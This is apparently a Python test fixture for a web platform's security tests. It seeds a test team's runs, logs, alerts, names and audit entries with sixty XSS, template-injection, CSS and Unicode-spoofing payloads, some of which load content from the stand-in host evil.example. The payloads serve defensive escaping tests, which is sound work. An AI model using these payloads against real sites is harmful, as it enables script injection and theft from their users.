"""Sixty texts that would run, load or disguise something where a page took them for more than text; and a team full of them.

`fill`, called in a web server's environment, builds that team. Each text that could run sets `window.fired`; each that could load asks
evil.example.
"""

from __future__ import annotations

from typing import Any

_FIRE = "window.fired=1"
PAYLOADS: tuple[str, ...] = (
    f"<script>{_FIRE}</script>",
    f"<SCRIPT>{_FIRE}</SCRIPT>",
    "<script src=//evil.example/a.js></script>",
    f"<scr<script>ipt>{_FIRE}</scr</script>ipt>",
    f"<img src=x onerror={_FIRE}>",
    f'"><img src=x onerror="{_FIRE}">',
    f"'><img src=x onerror='{_FIRE}'>",
    f"<img/src=`x`onerror={_FIRE}>",
    f"<svg onload={_FIRE}>",
    f"<svg/onload={_FIRE}//",
    f"<svg><script>{_FIRE}</script></svg>",
    f"<svg><animate onbegin={_FIRE} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{_FIRE}"><text x=20 y=20>evil</text></a></svg>',
    f'<iframe srcdoc="<script>parent.{_FIRE}</script>">',
    f'<iframe src="javascript:parent.{_FIRE}">',
    "<iframe src=//evil.example/frame></iframe>",
    f'<a href="javascript:{_FIRE}">evil link</a>',
    f"<a href=' &#x6a;avascript:{_FIRE}'>evil entity</a>",
    f"[evil markdown](javascript:{_FIRE})",
    f"![x](javascript:{_FIRE})",
    '<a href="data:text/html,<script>opener.fired=1</script>">evil data</a>',
    '<object data="data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+"></object>',
    "<embed src=//evil.example/embed>",
    f"<body onload={_FIRE}>",
    f"<details open ontoggle={_FIRE}>evil details</details>",
    f"<input autofocus onfocus={_FIRE}>",
    f"<select autofocus onfocus={_FIRE}>",
    f"<marquee onstart={_FIRE}>evil marquee</marquee>",
    f"<video><source onerror={_FIRE}></video>",
    f"<audio src=x onerror={_FIRE}>",
    f"<form action=javascript:{_FIRE}><button>evil form</button></form>",
    f"<button formaction=javascript:{_FIRE}>evil button</button>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={_FIRE}></style></mglyph></math>",
    f'<noscript><p title="</noscript><img src=x onerror={_FIRE}>">',
    f"</title><script>{_FIRE}</script>",
    f"</textarea><script>{_FIRE}</script>",
    f"</style></script><script>{_FIRE}</script>",
    f"</pre></code></td></table><script>{_FIRE}</script>",
    f"--><script>{_FIRE}</script><!--",
    f"<!-- <script>{_FIRE}",
    f"]]><script>{_FIRE}</script>",
    f'</script><script>{_FIRE}//"',
    f'";{_FIRE};//',
    f"';{_FIRE};//",
    f"\\';{_FIRE};//",
    "<!--<script",
    f"${{{_FIRE}}}",
    f"{{{{constructor.constructor('{_FIRE}')()}}}}",
    "{{7*7}}{% include 'runs/list.html' %}<%= 7*7 %>#{7*7}",
    f"$\\href{{javascript:{_FIRE}}}{{evil}}$",
    '$\\htmlData{x="><img src=x>}{evil}$ \\(\\url{//evil.example}\\)',
    "<style>body{display:none}@import'//evil.example/s.css'</style>",
    '<div style="background:url(//evil.example/bg);position:fixed;inset:0">evil cover</div>',
    "<link rel=stylesheet href=//evil.example/l.css>",
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "\u202egnp.exe\u202c evil \u2066direction\u2069 <b>bold</b>",
    "\u200bevil\u200dzero\ufeffwidth \u0430dmin <i>twin</i>",
    "\u2028evil\u2029separator\u0085<u>line</u>",
    "\x1b[31mevil\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x07<b>%{x}<extra>%{y}</extra>",
)


def shown(text: str) -> str:
    """The text as it may stand in a name: what a name never holds is left out."""
    import unicodedata

    return "".join(letter for letter in text if not unicodedata.category(letter).startswith("C") and letter not in "\u2028\u2029").strip()


def name(index: int, longest: int = 100) -> str:
    """A name with one text in it, unlike every other name."""
    return f"{index} {shown(PAYLOADS[index % len(PAYLOADS)])}"[:longest]


def fill() -> dict[str, Any]:
    """A team with these texts wherever people, models and drivers write. Names take them as the database holds them."""
    from headrace.alerts.models import Alert, AlertChannel, AlertDelivery, AlertRule
    from headrace.artifacts.models import Export, Probe
    from headrace.compare.models import SavedView
    from headrace.compare.races.models import Race
    from headrace.dispatch.models import Cluster
    from headrace.experiments.models import Attempt, Experiment, Project, Run, Sweep
    from headrace.teams import audit
    from headrace.teams.models import ApiToken, Team, User
    from tests.platform_tests import race_rig
    from tests.platform_tests.security_rig import build
    from tests.platform_tests.telemetry_rig import SAMPLE, metric, push

    world = build("evilword")
    team, owner = world.team, world.owner
    for _ in range(5):  # one entry after another
        race_rig.advance()
        for at, entry in enumerate(race_rig.entries(Race.unscoped.get(public_id=world.ids["race"]))):
            if entry.run is not None and not entry.run.is_over:
                race_rig.train(entry.run, gain=0.05 * (at + 1), steps=4)
    model = Run.unscoped.get(public_id=world.ids["done"])
    for index in range(len(PAYLOADS) - 8):
        fields = {"team": team, "project": model.project, "config": model.config, "seed": index, "idempotency_key": f"evil-{index}"}
        Run.objects.create(**fields, name="x", created_by=owner)
    for index, run in enumerate(Run.unscoped.filter(team=team).order_by("pk")):
        text = PAYLOADS[index % len(PAYLOADS)]
        cause = {"message": text, "cure": text, "field": "optimizer.learning_rate", "value": text}
        told = {"name": name(index), "note": text, "tags": [shown(text)[:60]], "outcome_cause": cause}
        Run.unscoped.filter(pk=run.pk).update(**told, group=run.group or name(index), preset=shown(text)[:90])
    attempt = Attempt.unscoped.get(public_id=world.ids["attempt"])
    events: list[tuple[str, dict[str, Any]]] = []
    for index, text in enumerate(PAYLOADS):
        tokens = {"ids": [1, 2], "text": [text, text], "logprobs": [-0.1, -0.2], "versions": [1, 2], "trainer_logprobs": None}
        words = {"prompt": text, "completion": text, "answer_given": text, "answer_expected": text, "error": text, "tokens": tokens}
        events.append(("sample", {**SAMPLE, **words, "group": shown(text)[:90], "prompt_id": shown(text)[:90], "index": index}))
        events.append(("log", {"level": "warning", "message": text, "source": text[:40]}))
        events.append(metric(0.01 * index))
    events.append(("phase", {"name": PAYLOADS[4], "detail": PAYLOADS[8], "done": 0.5}))
    push(attempt, events, first=7)
    _names(team, owner)
    race = Race.unscoped.get(public_id=world.ids["race"])
    for at, contender in enumerate(race.spec["contenders"]):
        contender["label"] = ('<a href="https://evil.example">evil</a>', "<b onclick=x>bold</b>")[at]
    race.problem = {"message": PAYLOADS[4], "cure": PAYLOADS[0]}
    race.save()
    for index, text in enumerate(PAYLOADS):
        audit.record("run.edit", actor=name(index), team=team, obj=model, detail={"name": shown(text), text[:20]: text})
    models = (Project, Experiment, Sweep, SavedView, AlertChannel, AlertRule, Cluster, ApiToken)
    for at, kind in enumerate(models):
        for row, key in enumerate(kind.unscoped.filter(team=team).values_list("pk", flat=True)):  # type: ignore[attr-defined]
            kind.unscoped.filter(pk=key).update(name=name(at * 7 + row))  # type: ignore[attr-defined]
    told = {"title": PAYLOADS[4], "detail": PAYLOADS[16], "rule_name": name(5)}
    Alert.unscoped.filter(team=team).update(**told)
    AlertDelivery.unscoped.filter(team=team).update(words=PAYLOADS[0], channel_name=name(6))
    Export.unscoped.filter(team=team).update(card="\n".join(PAYLOADS))
    result = {"rows": [], "note": PAYLOADS[4]}
    Probe.unscoped.filter(team=team).update(
        prompts=[PAYLOADS[4], PAYLOADS[8]], checkpoint=name(7), problem={"message": PAYLOADS[0], **result}
    )
    Team.objects.filter(pk=team.pk).update(name=name(4))
    User.objects.filter(pk=owner.pk).update(is_staff=True, is_superuser=True)
    more = list(Run.unscoped.filter(team=team, race_entries__isnull=False).values_list("public_id", flat=True))
    return {"ids": world.ids, "session": _session(owner), "curves": [world.ids["run"], world.ids["done"], *more]}


def _names(team: Any, owner: Any) -> None:
    """More rows of what a team has only one of, so that lists hold several texts."""
    from headrace.alerts.models import AlertRule
    from headrace.compare.models import SavedView
    from headrace.experiments.models import Project
    from headrace.teams.models import User

    for at in range(5):
        Project.objects.create(team=team, name="x", slug=f"evil-{at}", note=PAYLOADS[at])
        SavedView.objects.create(team=team, page="runs", name=f"x{at}", query=f"q={at}", created_by=owner)
        AlertRule.objects.create(
            team=team, name="x", kind="state", options={"states": ["failed"]}, tag=name(at, 50), preset=name(at + 9, 90)
        )
    for at, person in enumerate(User.objects.filter(teams=team)):
        User.objects.filter(pk=person.pk).update(name=name(at + 3))


def _session(user: Any) -> str:
    from django.contrib.auth import BACKEND_SESSION_KEY, HASH_SESSION_KEY, SESSION_KEY
    from django.contrib.sessions.backends.db import SessionStore

    store = SessionStore()
    store[SESSION_KEY], store[HASH_SESSION_KEY] = str(user.pk), user.get_session_auth_hash()
    store[BACKEND_SESSION_KEY] = "headrace.teams.backends.LimitedLogin"
    store.create()
    return str(store.session_key)
